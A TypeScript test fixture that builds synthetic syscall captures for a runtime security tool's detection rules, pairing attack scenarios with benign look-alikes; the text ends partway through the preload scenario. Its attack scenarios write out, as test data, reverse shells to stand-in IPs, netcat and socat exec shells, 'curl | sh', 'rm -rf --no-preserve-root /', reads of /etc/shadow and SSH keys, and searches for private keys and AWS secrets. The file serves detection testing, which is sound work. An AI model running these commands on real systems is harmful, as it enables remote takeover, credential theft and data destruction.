// Synthetic captures for the capture cases of Saker's default rules (rules/tests/*.yaml).
//
// Saker cannot record captures until its live source lands, and the shared Falco captures
// exercise only a few of the rules. These files are therefore written from hand-made event
// sequences: each scenario below is a short story told in scap events (a process tree built
// with clone and execve, then the syscalls of the behaviour), replayed through the real
// decoder, state and rules by `saker test`. They are not recordings of a kernel: they check
// the rules' logic against the event shapes libs 0.25 delivers, and they keep doing so as the
// rules change. Live `run:` cases check the same rules against a real kernel.
//
// Each rule has an attack scenario (the behaviour, plus near misses it must not count) and a
// benign one (the ordinary activity closest to it). `ordinary-work` tells what a developer or
// an admin does on a normal day: npm ci, a TypeScript build, apt-get install, a container
// started and stopped; no rule of any Saker file may fire on it.
//
// The files in rules/tests/captures/ are generated: do not edit them. After changing a
// scenario, run `node dist/test/rules-default/synthetic-captures.js --write` from the
// repository root; synthetic-captures.test.ts fails while a checked-in file is stale.

import { CaptureBuilder } from '../capture/helpers.js'
import { makeEvent, PPME, tuple4, addr4, type Param } from '../state/helpers.js'

// ---------------------------------------------------------------------------------------------
// Kernel and libs constants used by the scenarios

const AT_FDCWD = -100
const O = { RDONLY: 1, WRONLY: 2, RDWR: 3, CREAT: 4, APPEND: 8, TRUNC: 0x100, CLOEXEC: 0x1000 } as const
const AF = { UNIX: 1, INET: 2, PACKET: 17 } as const
const SOCK = { STREAM: 1, DGRAM: 2, RAW: 3 } as const
const EXE = { WRITABLE: 1, UPPER_LAYER: 2, FROM_MEMFD: 4, LOWER_LAYER: 8 } as const
/** libs' ptrace request values (ptrace_requests flag table). */
const PTRACE = { TRACEME: 1, PEEKDATA: 3, POKETEXT: 5, ATTACH: 11, SEIZE: 20 } as const
/** Capability bits, as the kernel numbers them. */
const CAP = { DAC_OVERRIDE: 1, SETGID: 6, SETUID: 7, NET_RAW: 13, SYS_ADMIN: 21 } as const
const ALL_CAPS = (1n << 41n) - 1n
const EPERM = -1
const EINPROGRESS = -115
const TTY_PTS0 = 34816
const NO_LOGIN = 0xffffffff
const NS = { NEWNS: 1 << 17, NEWUSER: 1 << 28, NEWNET: 1 << 30 } as const

const bit = (n: number): bigint => 1n << BigInt(n)
/** A PT_DYN ptrace address or data param: index 0 (u64) and the value. */
const dyn = (v: bigint): Uint8Array => {
  const b = new Uint8Array(9)
  new DataView(b.buffer).setBigUint64(1, v, true)
  return b
}

// ---------------------------------------------------------------------------------------------
// The scenario builder

export interface Container {
  readonly id: string
  readonly name: string
  readonly image: string
  readonly namespace?: string
  readonly pod?: string
}

export interface ProcOpts {
  /** argv[1..] */
  args?: readonly string[]
  comm?: string
  uid?: number
  loginuid?: number
  tty?: number
  cwd?: string
  container?: Container
  /** The pid seen inside the container's pid namespace (clone's vpid). */
  vpid?: number
  /** EXE_* flags of execve. */
  exeFlags?: number
  capEffective?: bigint
  env?: readonly string[]
}

interface Proc {
  tid: number
  comm: string
  exepath: string
  args: readonly string[]
  uid: number
  loginuid: number
  tty: number
  cwd: string
  cgroups: readonly string[]
}

const fullId = (short: string): string => short.padEnd(64, '0')

export class Scenario {
  private readonly cb = new CaptureBuilder().shb().mi('saker-synthetic', 2)
  private ts = 1_700_000_100_000_000_000n
  private readonly procs = new Map<number, Proc>()
  private readonly announced = new Set<string>()

  constructor() {
    this.proc(1, 0, '/usr/lib/systemd/systemd', { comm: 'systemd' })
  }

  /** One event, 1 ms after the previous one. */
  event(type: number, tid: number, params: readonly Param[]): this {
    this.ts += 1_000_000n
    this.cb.event(makeEvent(type, tid, this.ts, params))
    return this
  }

  /** Announces a container's metadata the way captures carry it (CONTAINER_JSON_2_E). */
  private announce(c: Container): void {
    if (this.announced.has(c.id)) return
    this.announced.add(c.id)
    const slash = c.image.lastIndexOf('/')
    const colon = c.image.lastIndexOf(':')
    const repo = colon > slash ? c.image.slice(0, colon) : c.image
    const tag = colon > slash ? c.image.slice(colon + 1) : 'latest'
    const labels: Record<string, string> = {}
    if (c.namespace !== undefined) labels['io.kubernetes.pod.namespace'] = c.namespace
    if (c.pod !== undefined) labels['io.kubernetes.pod.name'] = c.pod
    const json = {
      container: {
        id: c.id, full_id: fullId(c.id), name: c.name, image: c.image, imagerepo: repo, imagetag: tag,
        type: c.namespace === undefined ? 0 : 7, privileged: false, labels, Mounts: [], env: [],
        is_pod_sandbox: false, port_mappings: [], ip: '10.1.2.3',
      },
    }
    this.event(PPME.CONTAINER_JSON_2_E, 0, [JSON.stringify(json)])
  }

  /**
   * A process: the child side of a clone from `ptid` (so the thread knows its parent and,
   * in a container, its cgroups and virtual pid), then its execve.
   */
  proc(tid: number, ptid: number, exepath: string, o: ProcOpts = {}): this {
    const parent = this.procs.get(ptid)
    const comm = (o.comm ?? exepath.slice(exepath.lastIndexOf('/') + 1)).slice(0, 15)
    const cgroups = o.container !== undefined
      ? [`cpuset=/docker/${fullId(o.container.id)}`, `memory=/docker/${fullId(o.container.id)}`]
      : parent?.cgroups ?? ['cpuset=/', 'memory=/']
    if (o.container !== undefined) this.announce(o.container)
    const p: Proc = {
      tid, comm, exepath, args: o.args ?? [], uid: o.uid ?? parent?.uid ?? 0,
      loginuid: o.loginuid ?? parent?.loginuid ?? NO_LOGIN, tty: o.tty ?? parent?.tty ?? 0,
      cwd: o.cwd ?? parent?.cwd ?? '/', cgroups,
    }
    if (parent !== undefined) {
      // clone, child side: res, exe, args, tid, pid, ptid, cwd, fdlimit, pgft_maj, pgft_min, vm_size,
      // vm_rss, vm_swap, comm, cgroups, flags, uid, gid, vtid, vpid, pidns_init_start_ts
      const vpid = o.vpid ?? tid
      this.event(PPME.SYSCALL_CLONE_20_X, tid, [
        0, parent.exepath, parent.args, tid, tid, ptid, parent.cwd, 1024n, 0n, 0n, 0, 0, 0, parent.comm,
        cgroups, 0, p.uid, p.uid, vpid, vpid, 0n,
      ])
    }
    this.procs.set(tid, p)
    return this.exec(tid, exepath, o)
  }

  /** execve in an existing thread (the program changes, the pid and fds stay). */
  exec(tid: number, exepath: string, o: ProcOpts = {}): this {
    const cur = this.procs.get(tid)
    if (cur === undefined) throw new Error(`exec: unknown tid ${tid}`)
    const comm = (o.comm ?? exepath.slice(exepath.lastIndexOf('/') + 1)).slice(0, 15)
    const p: Proc = {
      ...cur, comm, exepath, args: o.args ?? [], uid: o.uid ?? cur.uid, loginuid: o.loginuid ?? cur.loginuid,
      tty: o.tty ?? cur.tty,
    }
    this.procs.set(tid, p)
    const ptid = tid === 1 ? 0 : this.parentOf(tid)
    // execve exit: res, exe, args, tid, pid, ptid, cwd, fdlimit, pgft_maj, pgft_min, vm_size, vm_rss,
    // vm_swap, comm, cgroups, env, tty, vpgid, loginuid, flags, cap_inheritable, cap_permitted,
    // cap_effective, exe_ino, exe_ino_ctime, exe_ino_mtime, uid, trusted_exepath, pgid, gid, filename
    const caps = o.capEffective ?? (p.uid === 0 ? ALL_CAPS : 0n)
    return this.event(PPME.SYSCALL_EXECVE_19_X, tid, [
      0, comm, p.args, tid, tid, ptid, p.cwd, 1024n, 0n, 0n, 0, 0, 0, comm, p.cgroups,
      o.env ?? ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin'], p.tty, tid, p.loginuid,
      o.exeFlags ?? 0, 0n, caps, caps, 1000n + BigInt(tid), 0n, 0n, p.uid, exepath, tid, p.uid, exepath,
    ])
  }

  private readonly parents = new Map<number, number>()
  private parentOf(tid: number): number {
    return this.parents.get(tid) ?? 1
  }

  /** Like proc, remembering the parent for later execs in the same thread. */
  spawn(tid: number, ptid: number, exepath: string, o: ProcOpts = {}): this {
    this.parents.set(tid, ptid)
    return this.proc(tid, ptid, exepath, o)
  }

  openat(tid: number, fd: number, path: string, flags: number, mode = 0): this {
    return this.event(PPME.SYSCALL_OPENAT_2_X, tid, [fd, AT_FDCWD, path, flags, mode, 0, 0n])
  }

  unlinkat(tid: number, path: string, res = 0): this {
    return this.event(PPME.SYSCALL_UNLINKAT_2_X, tid, [res, AT_FDCWD, path, 0])
  }

  renameat2(tid: number, from: string, to: string): this {
    return this.event(PPME.SYSCALL_RENAMEAT2_X, tid, [0, AT_FDCWD, from, AT_FDCWD, to, 0])
  }

  symlinkat(tid: number, target: string, linkpath: string): this {
    return this.event(PPME.SYSCALL_SYMLINKAT_X, tid, [0, target, AT_FDCWD, linkpath])
  }

  linkat(tid: number, oldpath: string, newpath: string): this {
    return this.event(PPME.SYSCALL_LINKAT_2_X, tid, [0, AT_FDCWD, oldpath, AT_FDCWD, newpath, 0])
  }

  fchmodat(tid: number, path: string, mode: number, res = 0): this {
    return this.event(PPME.SYSCALL_FCHMODAT_X, tid, [res, AT_FDCWD, path, mode])
  }

  socket(tid: number, fd: number, domain: number, type: number, proto = 0): this {
    return this.event(PPME.SOCKET_SOCKET_X, tid, [fd, domain, type, proto, 0])
  }

  /** A TCP connect from `fd` (a socket made just before) to ip:port. */
  connect(tid: number, fd: number, ip: string, port: number, res = 0, localIp = '10.1.2.3'): this {
    this.socket(tid, fd, AF.INET, SOCK.STREAM)
    const sport = 40000 + (tid % 20000)
    return this.event(PPME.SOCKET_CONNECT_X, tid, [res, tuple4(localIp, sport, ip, port), fd, addr4(ip, port)])
  }

  dup2(tid: number, oldfd: number, newfd: number): this {
    return this.event(PPME.SYSCALL_DUP2_X, tid, [newfd, oldfd, newfd])
  }

  setuid(tid: number, uid: number, res = 0): this {
    return this.event(PPME.SYSCALL_SETUID_X, tid, [res, uid])
  }

  setresuid(tid: number, ruid: number, euid: number, suid: number, res = 0): this {
    return this.event(PPME.SYSCALL_SETRESUID_X, tid, [res, ruid, euid, suid])
  }

  ptrace(tid: number, request: number, pid: number, res = 0): this {
    return this.event(PPME.SYSCALL_PTRACE_X, tid, [res, dyn(0n), dyn(0n), request, pid])
  }

  setns(tid: number, fd: number, nstype: number, res = 0): this {
    return this.event(PPME.SYSCALL_SETNS_X, tid, [res, fd, nstype])
  }

  unshare(tid: number, flags: number, res = 0): this {
    return this.event(PPME.SYSCALL_UNSHARE_X, tid, [res, flags])
  }

  finitModule(tid: number, fd: number, res = 0): this {
    return this.event(PPME.SYSCALL_FINIT_MODULE_X, tid, [res, fd, '', 0])
  }

  initModule(tid: number, res = 0): this {
    return this.event(PPME.SYSCALL_INIT_MODULE_X, tid, [res, new Uint8Array(16), 16n, ''])
  }

  exit(tid: number): this {
    return this.event(PPME.PROCEXIT_1_E, tid, [0, 0, 0, 0, 0])
  }

  bytes(): Uint8Array {
    return this.cb.bytes()
  }
}

// ---------------------------------------------------------------------------------------------
// Common casts

const WEB: Container = { id: '3f2a9c1d7e5b', name: 'shop-web', image: 'registry.example/shop/web:1.4', namespace: 'shop', pod: 'web-6d9f7-abcde' }
const DB: Container = { id: '8b1e4d2c9a07', name: 'orders-db', image: 'postgres:16', namespace: 'shop', pod: 'orders-db-0' }
const DNS: Container = { id: 'c0ffee123456', name: 'coredns', image: 'registry.k8s.io/coredns/coredns:v1.11.1', namespace: 'kube-system', pod: 'coredns-5d78c-xyz12' }
const DEV: Container = { id: '5e5e5e5e5e5e', name: 'devbox', image: 'debian:12' }

/** systemd, an SSH login of alice (loginuid 1000) with a root shell from `sudo -i`. */
function hostSession(s: Scenario): Scenario {
  return s
    .spawn(10, 1, '/usr/sbin/sshd', { args: ['-D'] })
    .spawn(11, 10, '/usr/lib/openssh/sshd-session', { comm: 'sshd-session', loginuid: 1000 })
    .spawn(12, 11, '/usr/bin/bash', { uid: 1000, tty: TTY_PTS0, cwd: '/home/alice' })
    .spawn(13, 12, '/usr/bin/sudo', { args: ['-i'] , uid: 0 })
    .spawn(14, 13, '/usr/bin/bash', { uid: 0, cwd: '/root' })
}

/** containerd and a shim, the parents of container processes. */
function runtime(s: Scenario): Scenario {
  return s
    .spawn(20, 1, '/usr/bin/containerd', {})
    .spawn(21, 1, '/usr/bin/containerd-shim-runc-v2', { args: ['-namespace', 'k8s.io'] })
}

const ROOT_SHELL = 14
const USER_SHELL = 12
const SHIM = 21

// ---------------------------------------------------------------------------------------------
// Scenarios, by rule

type Build = (s: Scenario) => void

export const SCENARIOS: Record<string, Build> = {
  // --- saker_rules.yaml ---------------------------------------------------------------------

  'reverse-shell': (s) => {
    hostSession(s)
    // bash -i >& /dev/tcp/203.0.113.7/4444 0>&1: bash itself connects and duplicates the socket.
    s.spawn(100, ROOT_SHELL, '/usr/bin/bash', { args: ['-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'] })
      .connect(100, 3, '203.0.113.7', 4444).dup2(100, 3, 0).dup2(100, 3, 1)
    // python's reverse shell: dup2 in python (not a shell), then exec /bin/sh on the socket.
    runtime(s)
    s.spawn(110, SHIM, '/usr/bin/python3', { container: WEB, args: ['-c', 'import socket,os;...'] })
      .connect(110, 3, '198.51.100.9', 443).dup2(110, 3, 0).dup2(110, 3, 1).dup2(110, 3, 2)
      .exec(110, '/usr/bin/dash', { comm: 'sh', args: ['-i'] })
  },
  'reverse-shell.benign': (s) => {
    hostSession(s)
    // a shell redirecting a file and a unix socket onto its standard streams
    s.spawn(100, ROOT_SHELL, '/usr/bin/bash', { args: ['-c', 'exec 0</dev/null'] })
      .openat(100, 3, '/dev/null', O.RDONLY).dup2(100, 3, 0)
      .socket(100, 4, AF.UNIX, SOCK.STREAM).dup2(100, 4, 1)
      .exec(100, '/usr/bin/bash', { args: ['-c', 'echo done'] })
    // python talking to the network, then running a shell with ordinary streams
    s.spawn(110, ROOT_SHELL, '/usr/bin/python3', { args: ['fetch.py'] })
      .connect(110, 3, '203.0.113.7', 443)
    s.spawn(111, 110, '/usr/bin/dash', { comm: 'sh', args: ['-c', 'ls'] })
  },

  'netcat-exec': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/nc.traditional', { comm: 'nc', args: ['-e', '/bin/sh', '203.0.113.7', '4444'] })
      .spawn(101, ROOT_SHELL, '/usr/bin/ncat', { args: ['--sh-exec', 'bash -i', '203.0.113.7', '443'] })
      .spawn(102, ROOT_SHELL, '/usr/bin/socat', { args: ['TCP:203.0.113.7:4444', 'EXEC:/bin/bash,pty,stderr'] })
      .spawn(103, ROOT_SHELL, '/bin/busybox', { args: ['nc', '203.0.113.7', '4444', '-e', '/bin/sh'] })
  },
  'netcat-exec.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/nc.openbsd', { comm: 'nc', args: ['-zv', 'db-example.internal', '5432'] })
      .spawn(101, ROOT_SHELL, '/usr/bin/nc.openbsd', { comm: 'nc', args: ['-l', '8080'] })
      .spawn(102, ROOT_SHELL, '/usr/bin/ncat', { args: ['--ssl', 'api-example.com', '443'] })
      .spawn(103, ROOT_SHELL, '/usr/bin/socat', { args: ['TCP-LISTEN:8080,fork', 'TCP:10.0.0.2:80'] })
      .spawn(104, ROOT_SHELL, '/bin/busybox', { args: ['sh', '-c', 'wget -qO- http://10.0.0.2/ -e robots=off'] })
  },

  'server-shell': (s) => {
    runtime(s)
    s.spawn(100, SHIM, '/usr/sbin/nginx', { container: WEB, vpid: 1, args: ['-g', 'daemon off;'] })
      .spawn(101, 100, '/usr/sbin/nginx', { comm: 'nginx', args: ['worker'] })
      .spawn(102, 101, '/bin/sh', { args: ['-c', 'id; uname -a'] })
      .spawn(110, SHIM, '/usr/lib/postgresql/16/bin/postgres', { container: DB, vpid: 1, comm: 'postgres' })
      .spawn(111, 110, '/bin/sh', { args: ['-c', 'curl -s http://203.0.113.7/x | sh'] })
  },
  'server-shell.benign': (s) => {
    s.spawn(100, 1, '/usr/sbin/apache2', { args: ['-k', 'start'] })
      .spawn(101, 100, '/bin/sh', { args: ['-c', '/usr/bin/rotatelogs', '/var/log/apache2/access.%Y', '86400'] })
      .spawn(102, 100, '/usr/sbin/apache2', { args: ['-k', 'start'] })
      .spawn(110, 1, '/usr/bin/node', { args: ['/usr/bin/npm', 'run', 'build'] })
      .spawn(111, 110, '/bin/sh', { args: ['-c', 'tsc -p tsconfig.json'] })
  },

  'interactive-container-shell': (s) => {
    runtime(s)
    s.spawn(100, SHIM, '/usr/sbin/nginx', { container: WEB, vpid: 1 })
      // kubectl exec -it web -- bash
      .spawn(101, SHIM, '/usr/bin/bash', { container: WEB, vpid: 7, tty: TTY_PTS0 })
  },
  'interactive-container-shell.benign': (s) => {
    runtime(s)
    hostSession(s)
    // docker run -it debian:12 bash: the shell is the container itself
    s.spawn(100, SHIM, '/usr/bin/bash', { container: DEV, vpid: 1, tty: TTY_PTS0 })
      // a subshell and a command typed in it
      .spawn(101, 100, '/usr/bin/bash', { vpid: 8, tty: TTY_PTS0 })
      // a probe running sh -c without a terminal
      .spawn(110, SHIM, '/bin/sh', { container: WEB, vpid: 9, args: ['-c', 'curl -fs localhost/healthz'] })
      // a shell on the host
      .spawn(120, ROOT_SHELL, '/usr/bin/bash', {})
  },

  'memory-exec': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/memfd:x (deleted)', { comm: '3', exeFlags: EXE.FROM_MEMFD })
      .spawn(101, ROOT_SHELL, '/dev/shm/.k/kswapd0', { args: ['-c', 'config.json'] })
  },
  'memory-exec.benign': (s) => {
    runtime(s)
    s.spawn(100, SHIM, '/usr/bin/runc', { args: ['init'] })
      .exec(100, '/memfd:runc_cloned:/proc/self/exe (deleted)', { comm: 'runc', args: ['init'], exeFlags: EXE.FROM_MEMFD })
      .spawn(101, 1, '/usr/bin/ls', { args: ['/dev/shm'] })
  },

  'data-destruction': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/rm', { args: ['-rf', '--no-preserve-root', '/'] })
      .spawn(101, ROOT_SHELL, '/usr/bin/rm', { args: ['-fr', '/etc'] })
      .spawn(102, ROOT_SHELL, '/usr/bin/rm', { args: ['-rf', '/home/'] })
      .spawn(103, ROOT_SHELL, '/usr/bin/shred', { args: ['-u', '-n', '3', '/var/lib/mysql/ibdata1'] })
  },
  'data-destruction.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/rm', { args: ['-rf', '/tmp/build'] })
      .spawn(101, ROOT_SHELL, '/usr/bin/rm', { args: ['-rf', '/var/lib/apt/lists/deb.debian.org_dists', '/var/lib/apt/lists/lock'] })
      .spawn(102, ROOT_SHELL, '/usr/bin/rm', { args: ['-f', '/etc/motd'] })
      .spawn(103, ROOT_SHELL, '/usr/bin/rm', { args: ['-rf', 'node_modules', 'dist'] })
      .spawn(104, ROOT_SHELL, '/usr/bin/rm', { args: ['-r', '/home/alice/old-project'] })
  },

  'root-transition': (s) => {
    hostSession(s)
    // alice's python3, given cap_setuid with setcap, becomes root
    s.spawn(100, USER_SHELL, '/usr/bin/python3.11', { comm: 'python3', uid: 1000, args: ['-c', 'import os; os.setuid(0); os.system("/bin/sh")'] })
      .setuid(100, 0)
  },
  'root-transition.benign': (s) => {
    hostSession(s)
    s.setresuid(13, 0, 0, 0) // sudo doing its job
      .spawn(100, ROOT_SHELL, '/usr/bin/apt-get', { args: ['update'] })
      .spawn(101, 100, '/usr/lib/apt/methods/http', { comm: 'http' })
      .setresuid(101, 42, 42, 42) // apt's methods drop to _apt
      .spawn(102, USER_SHELL, '/usr/bin/python3.11', { comm: 'python3', uid: 1000 })
      .setuid(102, 0, EPERM) // refused
      .spawn(110, 1, '/usr/sbin/cron', { args: ['-f'] })
      .setuid(110, 0) // no login session
  },

  'privilege-tool-parent': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', uid: 1000, loginuid: 1000, args: ['exploit.py'] })
      .spawn(101, 100, '/usr/bin/sudo', { args: ['-n', 'true'], uid: 0 })
    runtime(s)
    s.spawn(110, SHIM, '/usr/sbin/nginx', { container: WEB, vpid: 1 })
      .spawn(111, 110, '/bin/sh', { vpid: 12, args: ['-c', 'sudo -l'] })
      .spawn(112, 111, '/usr/bin/sudo', { vpid: 13, args: ['-l'] })
  },
  'privilege-tool-parent.benign': (s) => {
    hostSession(s)
    s.spawn(100, USER_SHELL, '/usr/bin/sudo', { args: ['apt-get', 'upgrade'] })
      .spawn(101, 11, '/usr/bin/sudo', { args: ['systemctl', 'restart', 'nginx'] })
      .spawn(102, 1, '/usr/sbin/cron', { args: ['-f'] })
      .spawn(103, 102, '/usr/bin/sudo', { args: ['-u', 'backup', '/usr/local/bin/backup'] })
      .spawn(104, USER_SHELL, '/usr/bin/make', { args: ['install'] })
      .spawn(105, 104, '/usr/bin/sudo', { args: ['install', '-m', '755', 'tool', '/usr/local/bin/'] })
    runtime(s)
    // an entrypoint that drops privileges with su
    s.spawn(110, SHIM, '/usr/bin/su', { container: DB, vpid: 1, args: ['postgres', '-c', 'postgres'] })
  },

  'setuid-bit': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/chmod', { args: ['u+s', '/tmp/.rootsh'] })
      .fchmodat(100, '/tmp/.rootsh', 0o4755)
      .spawn(101, ROOT_SHELL, '/usr/bin/chmod', { args: ['g+s', '/var/tmp/x'] })
      .fchmodat(101, '/var/tmp/x', 0o2755)
  },
  'setuid-bit.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/apt-get', { args: ['install', 'sudo'] })
      .spawn(101, 100, '/usr/bin/dpkg', { args: ['--unpack', 'sudo.deb'] })
      .fchmodat(101, '/usr/bin/sudo', 0o4755)
      .spawn(102, ROOT_SHELL, '/usr/bin/chmod', { args: ['755', 'build.sh'] })
      .fchmodat(102, '/root/build.sh', 0o755)
      .spawn(103, 1, '/usr/bin/containerd', {})
      .fchmodat(103, '/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/7/fs/usr/bin/passwd', 0o4755)
      .spawn(104, USER_SHELL, '/usr/bin/chmod', { uid: 1000, args: ['u+s', '/usr/bin/find'] })
      .fchmodat(104, '/usr/bin/find', 0o4755, EPERM)
  },

  'file-capabilities': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/sbin/setcap', { args: ['cap_setuid+ep', '/usr/bin/python3.11'] })
  },
  'file-capabilities.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/dpkg', { args: ['--configure', 'iputils-ping'] })
      .spawn(101, 100, '/usr/bin/dash', { comm: 'sh', args: ['/var/lib/dpkg/info/iputils-ping.postinst', 'configure'] })
      .spawn(102, 101, '/usr/sbin/setcap', { args: ['cap_net_raw+p', '/bin/ping'] })
      .spawn(103, ROOT_SHELL, '/usr/sbin/setcap', { args: ['-r', '/usr/bin/python3.11'] })
      .spawn(104, ROOT_SHELL, '/usr/sbin/setcap', { args: ['-v', 'cap_net_raw+p', '/bin/ping'] })
  },

  'container-namespace': (s) => {
    runtime(s)
    s.spawn(100, SHIM, '/usr/sbin/nginx', { container: WEB, vpid: 1 })
      .spawn(101, 100, '/usr/bin/nsenter', { vpid: 20, args: ['-t', '1', '-m', '-u', '-n', '-i', 'sh'] })
      .setns(101, 3, NS.NEWNS)
      .spawn(102, 100, '/usr/bin/unshare', { vpid: 21, args: ['-r', 'sh'] })
      .unshare(102, NS.NEWUSER, EPERM)
  },
  'container-namespace.benign': (s) => {
    runtime(s)
    hostSession(s)
    s.spawn(100, SHIM, '/usr/bin/runc', { container: WEB, comm: 'runc:[1:CHILD]', args: ['init'] })
      .unshare(100, NS.NEWNS | NS.NEWNET)
      .setns(100, 5, NS.NEWNET)
      .spawn(101, SHIM, '/opt/google/chrome/chrome', { container: DEV, vpid: 30, args: ['--headless'] })
      .unshare(101, NS.NEWUSER)
      .spawn(102, SHIM, '/usr/lib/systemd/systemd', { container: DEV, vpid: 1, comm: 'systemd' })
      .spawn(103, 102, '/usr/lib/systemd/systemd', { vpid: 40, comm: '(sd-exec)' })
      .unshare(103, NS.NEWNS)
      .spawn(110, ROOT_SHELL, '/usr/bin/unshare', { args: ['-m', 'sh'] })
      .unshare(110, NS.NEWNS)
  },

  'kernel-module': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/sbin/insmod', { comm: 'insmod', args: ['/tmp/diamorphine.ko'] })
      .finitModule(100, 3)
    runtime(s)
    s.spawn(110, SHIM, '/usr/bin/python3', { container: WEB, vpid: 50, args: ['load.py'] })
      .initModule(110, EPERM)
  },
  'kernel-module.benign': (s) => {
    hostSession(s)
    // the kernel asking for a module (request_module runs modprobe from kthreadd or a kworker),
    // udev on hotplug, dockerd at start, a DKMS package's postinst
    s.spawn(2, 0, '[kthreadd]', { comm: 'kthreadd' })
      .spawn(3, 2, '[kworker/u8:1]', { comm: 'kworker/u8:1' })
      .spawn(100, 2, '/usr/sbin/modprobe', { comm: 'modprobe', args: ['-q', '--', 'net-pf-10'] })
      .finitModule(100, 3)
      .spawn(107, 3, '/usr/sbin/modprobe', { comm: 'modprobe', args: ['-q', '--', 'fs-overlay'] })
      .finitModule(107, 3)
      .spawn(101, 1, '/usr/lib/systemd/systemd-udevd', {})
      .finitModule(101, 7)
      .spawn(102, 1, '/usr/bin/dockerd', { args: ['-H', 'fd://'] })
      .spawn(103, 102, '/usr/sbin/modprobe', { comm: 'modprobe', args: ['-va', 'bridge', 'br_netfilter'] })
      .finitModule(103, 3)
      .spawn(104, ROOT_SHELL, '/usr/bin/dpkg', { args: ['--configure', 'wireguard-dkms'] })
      .spawn(105, 104, '/usr/bin/dash', { comm: 'sh', args: ['/var/lib/dpkg/info/wireguard-dkms.postinst'] })
      .spawn(106, 105, '/usr/sbin/modprobe', { comm: 'modprobe', args: ['wireguard'] })
      .finitModule(106, 4)
  },

  'ptrace': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', args: ['inject.py', '1234'] })
      .ptrace(100, PTRACE.ATTACH, 1234)
      .spawn(101, ROOT_SHELL, '/tmp/.x/injector', { comm: 'injector', args: ['1234'] })
      .ptrace(101, PTRACE.POKETEXT, 1234)
  },
  'ptrace.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/gdb', { args: ['-p', '1234'] })
      .ptrace(100, PTRACE.ATTACH, 1234).ptrace(100, PTRACE.POKETEXT, 1234)
      .spawn(101, ROOT_SHELL, '/usr/bin/strace', { args: ['-f', '-p', '1234'] })
      .ptrace(101, PTRACE.SEIZE, 1234)
      .spawn(102, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', args: ['sandbox.py'] })
      .ptrace(102, PTRACE.TRACEME, 0).ptrace(102, PTRACE.PEEKDATA, 1234)
  },

  'credential-read': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/cat', { args: ['/etc/shadow'] })
      .openat(100, 3, '/etc/shadow', O.RDONLY)
      .spawn(101, ROOT_SHELL, '/usr/bin/python3.11', { comm: 'python3', args: ['steal.py'] })
      .openat(101, 3, '/root/.ssh/id_rsa', O.RDONLY)
      .spawn(102, ROOT_SHELL, '/usr/bin/less', { args: ['/etc/sudoers'] })
      .openat(102, 3, '/etc/sudoers', O.RDONLY)
      .spawn(103, ROOT_SHELL, '/usr/bin/tar', { args: ['czf', '/tmp/k.tgz', '/etc/ssh'] })
      .openat(103, 4, '/etc/ssh/ssh_host_ed25519_key', O.RDONLY)
  },
  'credential-read.benign': (s) => {
    hostSession(s)
    s.openat(11, 5, '/etc/shadow', O.RDONLY) // sshd-session checking a password
      .openat(13, 5, '/etc/sudoers', O.RDONLY) // sudo reading its policy
      .spawn(100, USER_SHELL, '/usr/bin/ssh', { uid: 1000, args: ['git@example.org'] })
      .openat(100, 3, '/home/alice/.ssh/id_ed25519', O.RDONLY)
      .spawn(101, 1, '/usr/sbin/cron', { args: ['-f'] })
      .spawn(102, 101, '/usr/bin/dash', { comm: 'passwd', args: ['/etc/cron.daily/passwd'] })
      .spawn(103, 102, '/usr/bin/cp', { args: ['-p', '/etc/shadow', 'shadow.bak'] })
      .openat(103, 3, '/etc/shadow', O.RDONLY)
      .spawn(104, ROOT_SHELL, '/usr/bin/cat', { args: ['/etc/passwd', '/root/.ssh/id_rsa.pub'] })
      .openat(104, 3, '/etc/passwd', O.RDONLY)
      .openat(104, 3, '/root/.ssh/id_rsa.pub', O.RDONLY)
  },

  'credential-search': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/find', { args: ['/', '-name', 'id_rsa', '-o', '-name', 'id_ed25519'] })
      .spawn(101, ROOT_SHELL, '/usr/bin/grep', { args: ['-ri', 'aws_secret_access_key', '/home'] })
      .spawn(102, ROOT_SHELL, '/usr/bin/rg', { args: ['-l', 'BEGIN OPENSSH PRIVATE KEY', '/'] })
  },
  'credential-search.benign': (s) => {
    hostSession(s)
    s.spawn(100, USER_SHELL, '/usr/bin/grep', { uid: 1000, args: ['-rn', 'TODO', 'src/'] })
      .spawn(101, USER_SHELL, '/usr/bin/find', { uid: 1000, args: ['.', '-name', '*.ts'] })
      .spawn(102, USER_SHELL, '/usr/bin/ssh-keygen', { uid: 1000, args: ['-t', 'ed25519', '-f', '/home/alice/.ssh/id_ed25519'] })
  },

  'preload': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/bash', { args: ['-c', 'echo /usr/lib/libx.so > /etc/ld.so.preload'] })
      .openat(100, 3, '/etc/ld.so.preload', O.WRONLY | O.CREAT | O.TRUNC, 0o666)
      .spawn(101, ROOT_SHELL, '/usr/bin/mv', { args: ['/tmp/p', '/etc/ld.so.preload'] })
      .renameat2(101, '/tmp/p', '/etc/ld.so.preload')
  },
  'preload.benign': (s) => {
    hostSession(s)
    s.spawn(100, ROOT_SHELL, '/usr/bin/cat', { args: ['/etc/ld.so.preload'] })
      .openat(100, 3, '/etc/ld.so.preload', O.RDONLY)
